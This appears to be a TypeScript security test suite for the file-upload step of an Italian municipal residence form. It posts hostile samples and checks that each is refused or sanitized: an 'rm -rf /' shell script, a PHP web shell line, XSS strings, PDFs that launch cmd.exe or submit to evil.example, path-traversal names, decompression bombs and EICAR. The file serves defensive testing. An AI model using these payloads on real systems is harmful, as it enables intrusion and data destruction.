/**
 * Files that strangers send, as a table: each is refused with its reason, or taken without what made it dangerous. After each post
 * the pages still serve; of a refused file neither store nor page holds anything. Written byte by byte, as no browser would.
 */
import assert from 'node:assert/strict'
import { randomUUID } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { textOf } from '../house/sources.ts'
import type { Browser } from '../pages/browser.ts'
import { FORM } from '../pages/declaration.ts'
import { openTown, type TownUnderTest } from '../pages/town.ts'
import { type Answered, askHttp, askRaw } from './asking.ts'
import {
  eicar,
  eml,
  exe,
  gzipBomb,
  heic,
  html,
  join,
  jpeg,
  latin1,
  p7m,
  packed,
  pdf,
  png,
  pngText,
  svg,
  zeros,
  zip,
} from './files.ts'

const FIELD = 'istanza.titolo.copia'
const BOUNDARY = 'xxBOUNDARYxx'
const MEGA = 1024 * 1024

let town: TownUnderTest
let address = ''
let mario: Browser
let token = ''
/** The step about the title to the dwelling, of a draft of one's own. */
const pageOf = (draft: string) => `${FORM}?bozza=${draft}&passo=5`
const PAGE = pageOf(randomUUID())

before(async () => {
  town = await openTown({ at: '2027-03-01T09:00:00Z' })
  address = new URL(town.url).host
  // The delivered form takes fewer kinds than there are.
  const form = textOf('forms/form-residenza-dichiarazione.form').replaceAll('.png,.p7m', '.png,.p7m,.heic,.eml')
  const content = new TextEncoder().encode(form)
  await town.gateway.deployResources({ resources: [{ name: 'form-residenza-dichiarazione.form', content }] })
})
after(() => town.close())

interface Part {
  readonly head: string
  readonly body: Buffer | string
}
const field = (name: string, body: string): Part => ({ head: `Content-Disposition: form-data; name="${name}"`, body })
const file = (name: string, type: string, body: Buffer | string, control = FIELD): Part => ({
  head: `Content-Disposition: form-data; name="${control}"; filename="${name}"\r\nContent-Type: ${type}`,
  body,
})
const bodyOf = (parts: readonly Part[]): Buffer =>
  join(
    ...parts.flatMap(({ head, body }) => [Buffer.from(`--${BOUNDARY}\r\n${head}\r\n\r\n`), body, '\r\n']),
    `--${BOUNDARY}--\r\n`,
  )

const cookie = () => [...mario.cookies].map(([name, value]) => `${name}=${value}`).join('; ')
const headers = (more: Readonly<Record<string, string>> = {}) => ({
  cookie: cookie(),
  origin: town.url,
  'content-type': `multipart/form-data; boundary=${BOUNDARY}`,
  ...more,
})
const own = () => [field('_csrf', token), field('istanza.titolo.tipo', 'LOCAZIONE')]
const post = (parts: readonly Part[]): Promise<Answered> =>
  askHttp(address, PAGE, { method: 'POST', headers: headers(), body: bodyOf(parts) })
const send = (...files: readonly Part[]): Promise<Answered> => post([...own(), ...files, field('azione', 'aggiorna')])

async function signIn(): Promise<void> {
  mario = await town.browser().signIn('Mario Rossi')
  await mario.open(FORM)
  token = mario.values().get('_csrf')![0]!
}

async function stored(): Promise<readonly string[]> {
  const { rows } = await town.database.raw(
    'SELECT name FROM document.document UNION ALL SELECT document::text FROM document.piece WHERE document NOT IN (SELECT id FROM document.document)',
  )
  return (rows as { name: string }[]).map(({ name }) => name)
}
const alive = async () => assert.equal((await mario.twin().open('/')).status, 200)

const reasons = {
  empty: /è vuoto/,
  tooBig: /supera 10 MB/,
  tooMany: /non si possono allegare altri file/,
  kind: /tipo di file non è ammesso/,
  office: /salvalo come PDF/,
  archive: /archivio compresso/,
  program: /è un programma/,
  page: /pagina web, un disegno SVG o uno script/,
  mismatch: /non corrispondono a quello che il file contiene/,
  damaged: /danneggiato o incompleto/,
  hidden: /contiene anche dati di un altro tipo/,
  active: /istruzioni che si eseguono da sole/,
  embedded: /contiene altri file/,
  protected: /protetto da password/,
  unpacks: /una volta aperto, è troppo grande/,
  pixels: /immagine è troppo grande/,
  detached: /firma senza il documento firmato/,
  virus: /controllo antivirus lo ha respinto/,
} as const
type Refused = readonly [name: string, part: Part, reason: keyof typeof reasons]
const PDF = 'application/pdf'
const BYTES = 'application/octet-stream'
const script = '<script>alert(1)</script>'

const refused: readonly Refused[] = [
  ['nothing under a name', file('vuoto.pdf', PDF, ''), 'empty'],
  ['50 MB', file('grande.pdf', PDF, join(pdf(), zeros(50 * MEGA))), 'tooBig'],
  ['a byte more than 10 MB', file('grande.pdf', PDF, zeros(10 * MEGA + 1)), 'tooBig'],
  ['a web page', file('pagina.html', 'text/html', html), 'page'],
  ['a web page called PDF', file('atto.pdf', PDF, html), 'page'],
  ['a web page called PNG', file('foto.png', 'image/png', html), 'page'],
  ['a web page in UTF-16', file('atto.pdf', PDF, Buffer.from(`\ufeff<html>${script}`, 'utf16le')), 'page'],
  ['a drawing with a script', file('logo.svg', 'image/svg+xml', svg), 'page'],
  ['a drawing called JPEG', file('logo.jpg', 'image/jpeg', svg), 'page'],
  [
    'XML with entities that multiply',
    file('a.xml', 'text/xml', '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aa">]><l>&a;</l>'),
    'page',
  ],
  ['a script', file('a.js', 'text/javascript', 'alert(1)'), 'program'],
  ['PHP', file('a.php', 'application/x-php', '<?php system($_GET[0]);'), 'page'],
  ['a shell script', file('atto.pdf', PDF, '#!/bin/sh\nrm -rf /'), 'program'],
  ['a program of Windows', file('setup.exe', BYTES, exe), 'program'],
  ['a program called PDF', file('atto.pdf', PDF, exe), 'program'],
  ['a program whose name is written backwards', file('fattura\u202Efdp.exe', PDF, exe), 'program'],
  ['a program of Linux', file('atto.pdf', PDF, '\x7fELF\x02\x01'), 'program'],
  ['a class of Java', file('a.png', 'image/png', Buffer.from('cafebabe00000034', 'hex')), 'program'],
  [
    'a link of Windows',
    file('atto.pdf.lnk', BYTES, Buffer.from('4c0000000114020000000000c000000000000046', 'hex')),
    'program',
  ],
  ['an archive', file('atti.zip', 'application/zip', zip('a.pdf', 'x')), 'archive'],
  ['an archive called PDF', file('atti.pdf', PDF, zip('a.pdf', 'x')), 'archive'],
  ['a path out of an archive', file('atti.zip', 'application/zip', zip('../../etc/passwd', 'x')), 'archive'],
  ['20 MB of zeros in 20 kB', file('atti.gz', 'application/gzip', gzipBomb), 'archive'],
  ['the same called PDF', file('atti.pdf', PDF, gzipBomb), 'archive'],
  ['RAR', file('atti.rar', BYTES, 'Rar!\x1a\x07\0'), 'archive'],
  ['7z', file('atti.7z', BYTES, '7z\xbc\xaf\x27\x1c'), 'archive'],
  ['tar', file('atti.tar', BYTES, join(zeros(257), 'ustar\0', zeros(200))), 'archive'],
  ['a Java archive behind a PNG’s name', file('a.png', 'image/png', zip('META-INF/MANIFEST.MF', 'x')), 'archive'],
  ['a document of Word', file('atto.docx', BYTES, zip('[Content_Types].xml', 'x')), 'office'],
  ['an old document with macros', file('atto.doc', BYTES, Buffer.from('d0cf11e0a1b11ae1', 'hex')), 'office'],
  ['an old document called PDF', file('atto.pdf', PDF, Buffer.from('d0cf11e0a1b11ae1', 'hex')), 'office'],
  ['RTF', file('atto.rtf', 'application/rtf', '{\\rtf1 x}'), 'office'],
  ['plain text called PDF', file('atto.pdf', PDF, 'ciao'), 'mismatch'],
  ['plain text', file('atto.txt', 'text/plain', 'ciao'), 'kind'],
  ['a GIF', file('a.gif', 'image/gif', 'GIF89a\x01\0\x01\0'), 'kind'],
  ['a GIF that is an archive too', file('a.gif', 'image/gif', join('GIF89a\x01\0\x01\0', zip('a.class', 'x'))), 'kind'],
  ['a JPEG called PNG', file('foto.png', 'image/png', jpeg()), 'mismatch'],
  ['a PDF called EXE', file('atto.exe', PDF, pdf()), 'mismatch'],
  ['a PDF called HTML', file('atto.html', PDF, pdf()), 'mismatch'],
  ['a PDF declared as a web page', file('atto.pdf', 'text/html', pdf()), 'mismatch'],
  ['a PNG declared as a script', file('a.png', 'application/javascript', png()), 'mismatch'],
  ['a PDF with two ends, the last of which lies', file('atto.pdf.exe', PDF, pdf()), 'mismatch'],
  ['a PDF without end', file('atto.pdf', PDF, '%PDF-1.7\n1 0 obj\n'), 'damaged'],
  ['a PDF of no version', file('atto.pdf', PDF, '%PDF-x.y\n%%EOF'), 'damaged'],
  ['a PDF behind a web page', file('atto.pdf', PDF, join(html, pdf())), 'page'],
  ['a PDF that begins as a web page too', file('atto.pdf', PDF, pdf({ head: `%PDF-1.7\n%${script}\n` })), 'hidden'],
  ['a PDF followed by a web page', file('atto.pdf', PDF, join(pdf(), html)), 'hidden'],
  ['a PDF followed by much', file('atto.pdf', PDF, join(pdf(), zeros(5_000), 'x')), 'hidden'],
  ['a PDF that is an archive too', file('atto.pdf', PDF, join(pdf(), zip('a.class', 'x'), pdf())), 'hidden'],
  [
    'a PDF that runs a script',
    file('atto.pdf', PDF, pdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' })),
    'active',
  ],
  [
    'the same in numbers',
    file('atto.pdf', PDF, pdf({ catalog: '/OpenAction << /S /J#61va#53cript /JS (x) >>' })),
    'active',
  ],
  [
    'the same in packed objects',
    file('atto.pdf', PDF, pdf({ objects: packed('<< /S /JavaScript /JS (x) >>', '/Type /ObjStm') })),
    'active',
  ],
  [
    'a PDF that starts a program',
    file('atto.pdf', PDF, pdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })),
    'active',
  ],
  [
    'a PDF that sends what is typed',
    file('atto.pdf', PDF, pdf({ catalog: '/A << /S /SubmitForm /F (http://evil.example) >>' })),
    'active',
  ],
  ['a PDF with a form of its own kind', file('atto.pdf', PDF, pdf({ catalog: '/AcroForm << /XFA [] >>' })), 'active'],
  [
    'a PDF that carries files',
    file('atto.pdf', PDF, pdf({ catalog: '/Names << /EmbeddedFiles << >> >>' })),
    'embedded',
  ],
  ['a PDF that nobody can read', file('atto.pdf', PDF, pdf({ end: '/Encrypt 5 0 R' })), 'protected'],
  [
    'a PDF packed twice',
    file('atto.pdf', PDF, pdf({ objects: packed('x', '', '[/FlateDecode /FlateDecode]') })),
    'unpacks',
  ],
  [
    'objects that unpack to 40 MB',
    file('atto.pdf', PDF, pdf({ objects: packed(zeros(40 * MEGA), '/Type /ObjStm') })),
    'unpacks',
  ],
  ['a page that unpacks to 300 MB', file('atto.pdf', PDF, pdf({ objects: packed(zeros(300 * MEGA)) })), 'unpacks'],
  ['a PNG cut short', file('a.png', 'image/png', png().subarray(0, 50)), 'damaged'],
  ['a PNG with a wrong checksum', file('a.png', 'image/png', Buffer.from(png()).fill(7, 29, 31)), 'damaged'],
  [
    'a PNG of 30,000 by 30,000',
    file('a.png', 'image/png', png({ width: 30_000, height: 30_000, rows: zeros(8) })),
    'pixels',
  ],
  ['a PNG that unpacks to more than it says', file('a.png', 'image/png', png({ rows: zeros(20 * MEGA) })), 'unpacks'],
  [
    'a PNG with a text that unpacks to 20 MB',
    file(
      'a.png',
      'image/png',
      png({ extra: pngText('zTXt', join('k\0\0', packed(zeros(20 * MEGA)).split('stream\n')[1]!)) }),
    ),
    'unpacks',
  ],
  [
    'a PNG with a page in a text',
    file('a.png', 'image/png', png({ extra: pngText('tEXt', join('k\0', html)) })),
    'hidden',
  ],
  ['a JPEG cut short', file('a.jpg', 'image/jpeg', jpeg().subarray(0, 30)), 'damaged'],
  ['a JPEG with a page in its comment', file('a.jpg', 'image/jpeg', jpeg({ comment: `<html>${script}` })), 'hidden'],
  ['a JPEG with a PDF in its comment', file('a.jpg', 'image/jpeg', jpeg({ comment: '%PDF-1.7' })), 'hidden'],
  ['a JPEG of 20,000 by 20,000', file('a.jpg', 'image/jpeg', jpeg({ width: 20_000, height: 20_000 })), 'pixels'],
  ['a JPEG without points', file('a.jpg', 'image/jpeg', jpeg({ width: 0 })), 'damaged'],
  ['a HEIC whose boxes do not fill it', file('a.heic', 'image/heic', join(heic(), 'xxxx')), 'damaged'],
  ['a signature without its document', file('atto.pdf.p7m', 'application/pkcs7-mime', p7m(null)), 'detached'],
  ['a signed program', file('a.exe.p7m', 'application/pkcs7-mime', p7m(exe)), 'program'],
  ['a signed archive', file('a.zip.p7m', BYTES, p7m(zip('a', 'x'))), 'archive'],
  [
    'a signed PDF that runs a script',
    file('a.pdf.p7m', BYTES, p7m(pdf({ catalog: '/AA << /S /JavaScript >>' }))),
    'active',
  ],
  ['an envelope in an envelope, five times', file('a.p7m', BYTES, p7m(p7m(p7m(p7m(p7m(pdf())))))), 'damaged'],
  ['an envelope that is longer than the file', file('a.p7m', BYTES, p7m(pdf()).subarray(0, 100)), 'mismatch'],
  ['an envelope with something behind it', file('a.p7m', BYTES, join(p7m(pdf()), html)), 'damaged'],
  ['a message with a program', file('m.eml', 'message/rfc822', eml('a.exe', exe)), 'program'],
  [
    'a message with an archive under another name',
    file('m.eml', 'message/rfc822', eml('a.pdf', zip('a', 'x'))),
    'archive',
  ],
  ['a message with a page', file('m.eml', 'message/rfc822', eml('a.html', html)), 'page'],
  ['the test file of all scanners', file('a.pdf', PDF, eicar), 'virus'],
  ['the same behind a PDF', file('a.pdf', PDF, join(pdf(), eicar)), 'virus'],
  ['the same, signed', file('a.p7m', BYTES, p7m(eicar)), 'virus'],
  ['the same in a message', file('m.eml', 'message/rfc822', eml('a.txt', eicar)), 'virus'],
]

describe('refused with its reason, and nothing of it is kept', () => {
  before(signIn)
  for (const [name, part, reason] of refused)
    test(`${name}: ${reason}`, async () => {
      const before = await stored()
      const { status, text } = await send(part)
      assert.equal(status, '422', text.slice(0, 300))
      const told = /class="form-feedback[^>]*>(Non allegato\..*?)</s.exec(text)?.[1] ?? ''
      assert.match(told, reasons[reason])
      assert.doesNotMatch(text, /<script>alert|\u202E/)
      assert.deepEqual(await stored(), before)
      await alive()
    })
})

/** Name on the page and in the store; the content that is kept. */
type Taken = readonly [name: string, part: Part, kept: string, content: () => Buffer]
const taken: readonly Taken[] = [
  ['a PDF', file('atto.pdf', PDF, pdf()), 'atto.pdf', pdf],
  ['a PDF without a type', file('atto.pdf', BYTES, pdf()), 'atto.pdf', pdf],
  ['a PDF without an end of its name', file('atto', PDF, pdf()), 'atto.pdf', pdf],
  [
    'a PDF with packed pages',
    file('a.PDF', PDF, pdf({ objects: packed('q Q') })),
    'a.pdf',
    () => pdf({ objects: packed('q Q') }),
  ],
  ['a PNG', file('a.png', 'image/png', png()), 'a.png', png],
  ['a HEIC', file('a.heic', 'image/heic', heic()), 'a.heic', heic],
  ['a JPEG', file('a.jpeg', 'image/jpeg', jpeg()), 'a.jpeg', jpeg],
  ['a signed PDF', file('contratto.pdf.p7m', BYTES, p7m(pdf())), 'contratto.pdf.p7m', () => p7m(pdf())],
  [
    'a signed PDF in letters',
    file('a.p7m', BYTES, latin1(p7m(pdf()).toString('base64'))),
    'a.p7m',
    () => latin1(p7m(pdf()).toString('base64')),
  ],
  ['a message with a PDF', file('m.eml', 'message/rfc822', eml('a.pdf', pdf())), 'm.eml', () => eml('a.pdf', pdf())],
  [
    'a JPEG that is an archive too, without the archive',
    file('a.jpg', 'image/jpeg', join(jpeg(), zip('a.class', 'x'))),
    'a.jpg',
    jpeg,
  ],
  ['a JPEG followed by a page, without the page', file('a.jpg', 'image/jpeg', join(jpeg(), html)), 'a.jpg', jpeg],
  ['a PNG followed by a program, without the program', file('a.png', 'image/png', join(png(), exe)), 'a.png', png],
  ['a path', file('../../../etc/passwd.pdf', PDF, pdf()), 'passwd.pdf', pdf],
  ['a path of Windows', file('C:\\\\Windows\\\\win.pdf', PDF, pdf()), 'win.pdf', pdf],
  ['a hidden file', file('.htaccess.pdf', PDF, pdf()), 'htaccess.pdf', pdf],
  ['a device', file('con.pdf', PDF, pdf()), 'file-con.pdf', pdf],
  ['a formula', file('=HYPERLINK(0).pdf', PDF, pdf()), '_HYPERLINK(0).pdf', pdf],
  ['a program before the end of the name', file('fattura.exe.pdf', PDF, pdf()), 'fattura_exe.pdf', pdf],
  ['a name that turns the direction of writing', file('a\u202Efdp.pdf', PDF, pdf()), 'afdp.pdf', pdf],
  ['markup in a name', file("<img src=x onerror=alert(1)>'.pdf", PDF, pdf()), '_img src_x onerror_alert(1)__.pdf', pdf],
  ['a name of 300 letters', file(`${'a'.repeat(300)}.pdf`, PDF, pdf()), `${'a'.repeat(96)}.pdf`, pdf],
]

describe('taken without what made it dangerous, given back as a file', () => {
  before(signIn)
  for (const [name, part, kept, content] of taken)
    test(name, async () => {
      const before = await stored()
      const { status, text } = await send(part)
      assert.equal(status, '200', /form-feedback[^>]*>(.*?)</s.exec(text)?.[1] ?? text.slice(0, 300))
      assert.deepEqual((await stored()).toSorted(), [...before, kept].toSorted())
      const [, link, seal] = /href="(\/documenti\/[^"?]+\?prova=([^"]+))"/.exec(text)!
      const given = await fetch(`${town.url}${link}`, { headers: { cookie: cookie() } })
      assert.equal(given.status, 200)
      assert.deepEqual(Buffer.from(await given.arrayBuffer()), content())
      assert.match(given.headers.get('content-disposition') ?? '', /^attachment/)
      assert.equal(given.headers.get('x-content-type-options'), 'nosniff')
      assert.match(given.headers.get('content-security-policy') ?? '', /sandbox/)
      const sent = field(FIELD, decodeURIComponent(seal!))
      const gone = await post([...own(), sent, field('riga', `~${FIELD}[0]`)])
      assert.doesNotMatch(gone.text, /\/documenti\//)
      assert.deepEqual(await stored(), before, 'a file that is removed from the page is removed from the store')
      await alive()
    })
})

type Post = readonly [name: string, ask: () => Promise<Answered>, status: string]
const many = (count: number, part: (index: number) => Part): readonly Part[] =>
  Array.from({ length: count }, (_, i) => part(i))
const posts: readonly Post[] = [
  ['without a token', () => post([file('a.pdf', PDF, pdf())]), '403'],
  ['with the token behind the file', () => post([file('a.pdf', PDF, pdf()), ...own()]), '403'],
  ['with another’s token', () => post([field('_csrf', 'x'), file('a.pdf', PDF, pdf())]), '403'],
  [
    'of nobody',
    () =>
      askHttp(address, PAGE, {
        method: 'POST',
        headers: headers({ cookie: '' }),
        body: bodyOf([...own(), file('a.pdf', PDF, pdf())]),
      }),
    '403',
  ],
  [
    'of another site',
    () =>
      askHttp(address, PAGE, {
        method: 'POST',
        headers: headers({ origin: 'http://evil.example' }),
        body: bodyOf(own()),
      }),
    '403',
  ],
  [
    'of 100 MB',
    () =>
      askRaw(
        address,
        `POST ${PAGE} HTTP/1.1\r\nHost: ${address}\r\nOrigin: ${town.url}\r\nCookie: ${cookie()}\r\nContent-Type: multipart/form-data; boundary=x\r\nContent-Length: 100000000\r\n\r\n`,
      ),
    '413',
  ],
  ['of 6,000 fields', () => post([...own(), ...many(6_000, (index) => field(`f${index}`, ''))]), '413'],
  ['of 400 files', () => post([...own(), ...many(400, (index) => file(`f${index}`, PDF, 'x'))]), '413'],
  ['with a field of 300 kB', () => post([...own(), field('istanza.note', 'x'.repeat(300_000))]), '413'],
  [
    'that ends in the middle',
    () =>
      askHttp(address, PAGE, {
        method: 'POST',
        headers: headers(),
        body: bodyOf([...own(), file('a.pdf', PDF, pdf())]).subarray(0, -80),
      }),
    '400',
  ],
  [
    'without a boundary',
    () =>
      askHttp(address, PAGE, {
        method: 'POST',
        headers: headers({ 'content-type': 'multipart/form-data' }),
        body: 'x',
      }),
    '400',
  ],
  [
    'with a head of 50 kB, which is not read',
    () =>
      post([...own(), { head: `Content-Disposition: form-data; name="a"\r\nX-A: ${'x'.repeat(50_000)}`, body: '' }]),
    '200',
  ],
  ['with a file for a control that the form does not have', () => send(file('a.pdf', PDF, pdf(), 'altro')), '200'],
  ['with a file for a control that is text', () => send(file('a.pdf', PDF, pdf(), 'istanza.titolo.estremi')), '200'],
  ['with a file for a control that is hidden', () => send(file('a.pdf', PDF, pdf(), 'istanza.allegati.modulo')), '200'],
  ['with a file for __proto__', () => send(file('a.pdf', PDF, pdf(), '__proto__')), '200'],
  [
    'with a made-up seal',
    () =>
      post([
        ...own(),
        field(
          FIELD,
          `${Buffer.from('{"id":"x","nome":"a","tipo":"b","impronta":"c","byte":1}').toString('base64url')}.AAAA`,
        ),
        field('azione', 'aggiorna'),
      ]),
    '200',
  ],
  [
    'with a document’s bare id',
    () => post([...own(), field(FIELD, '00000000-0000-4000-8000-000000000000'), field('azione', 'aggiorna')]),
    '200',
  ],
]

describe('a post in parts', () => {
  before(signIn)
  for (const [name, ask, status] of posts)
    test(name, async () => {
      const before = await stored()
      const { status: found, text } = await ask()
      assert.equal(found, status, text.slice(0, 300))
      assert.doesNotMatch(text, /\/documenti\/|\n +at |node_modules/)
      assert.deepEqual(await stored(), before)
      await alive()
    })
})

test('more files than the field takes: as many as it takes, the others refused', async () => {
  const before = await stored()
  const { status, text } = await send(...many(7, (index) => file(`${index}.pdf`, PDF, pdf())))
  assert.equal(status, '422')
  assert.match(text, reasons.tooMany)
  assert.equal((await stored()).length - before.length, 5)
})

test('a file of one person is no other’s: neither to read nor to attach', async () => {
  const { text } = await send(file('a.pdf', PDF, pdf()))
  const [, link, seal] = /href="(\/documenti\/[^"?]+\?prova=([^"]+))"/.exec(text)!
  const lucia = await town.browser().signIn('Lucia Bianchi')
  assert.equal((await lucia.open(link!)).status, 404)
  await lucia.open(FORM)
  const body = new FormData()
  const parts = {
    _csrf: lucia.values().get('_csrf')![0]!,
    'istanza.titolo.tipo': 'LOCAZIONE',
    azione: 'aggiorna',
  }
  for (const [name, value] of Object.entries({ ...parts, [FIELD]: decodeURIComponent(seal!) })) body.append(name, value)
  await lucia.send('POST', pageOf(randomUUID()), body)
  assert.equal(lucia.status, 200)
  assert.doesNotMatch(lucia.markup, /\/documenti\//)
  const stranger = town.browser()
  await stranger.open(link!)
  assert.match(stranger.path, /accedi|identita/i)
})

test('who sends without end is told to wait', async () => {
  await signIn()
  let status = ''
  for (let posts = 0; posts < 200 && status !== '429'; posts++) status = (await post(own())).status
  assert.equal(status, '429')
  await alive()
})

test('the log tells neither names nor contents', () => {
  assert.doesNotMatch(town.log.join('\n'), /\.pdf|\.exe|alert|EICAR|\n +at /)
})
